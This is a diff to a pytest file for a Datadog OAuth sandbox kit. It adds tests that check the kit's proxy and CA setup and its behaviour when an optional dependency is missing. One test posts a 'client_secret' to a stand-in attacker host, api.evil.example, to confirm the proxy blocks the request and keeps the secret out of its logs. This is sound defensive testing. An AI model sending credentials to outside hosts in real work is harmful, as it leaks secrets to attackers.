@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import signal
+import ssl
 import stat
 import subprocess
 import sys
@@ -19,6 +20,7 @@ from support.front import SECRET, clean_environment, program
 from support.visitors import Person
 
 from ddoauth_kit.cli import main
+from ddoauth_kit.sandbox import Sandbox
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -240,6 +242,35 @@ def test_in_a_pipe_it_names_the_control_key_file() -> None:
         assert process.wait(timeout=20) == 0
         assert process.stdout.read() == ""
     assert not file.parent.exists()
+
+
+def test_in_a_pipe_it_names_the_front() -> None:
+    """A program that reads the line reaches Datadog's names by the proxy and the CA it names."""
+    with _started() as process:
+        assert process.stdout is not None
+        said = json.loads(process.stdout.readline())
+        ca_file = Path(said["ca_file"])
+        trusted = ssl.create_default_context(cafile=str(ca_file))
+        with httpx.Client(proxy=said["proxy"], verify=trusted, trust_env=False) as client:
+            assert client.get("https://api.us3.datadoghq.com/api/v1/validate").status_code == 403
+            foreign = client.post("https://api.evil.example/", data={"client_secret": SECRET})
+        assert foreign.status_code == 403
+        process.send_signal(signal.SIGINT)
+        _, lines = process.communicate(timeout=20)
+    assert process.returncode == 0
+    assert "The client had sent: client_secret in the body." in lines
+    assert SECRET not in lines
+    assert not ca_file.parent.exists()
+
+
+def test_without_trustme_the_line_names_no_front(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A kit without the extra `grade` serves the sandbox as before."""
+    monkeypatch.setitem(sys.modules, "trustme", None)
+    monkeypatch.setattr(Sandbox, "serve_forever", lambda _, announce: announce())
+    assert main(["sandbox"]) == 0
+    assert {"sites", "client", "control"} == set(json.loads(capsys.readouterr().out))
 
 
 @pytest.mark.skipif(os.name != "posix", reason="pseudo-terminals are POSIX")
